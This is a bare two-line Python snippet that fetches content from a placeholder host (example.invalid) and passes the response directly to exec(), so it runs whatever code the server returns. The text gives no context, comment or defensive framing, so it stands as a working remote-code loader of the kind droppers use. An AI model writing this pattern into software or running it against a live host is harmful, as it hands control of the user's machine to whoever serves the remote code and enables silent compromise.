import urllib.request
exec(urllib.request.urlopen("http://example.invalid/x").read())
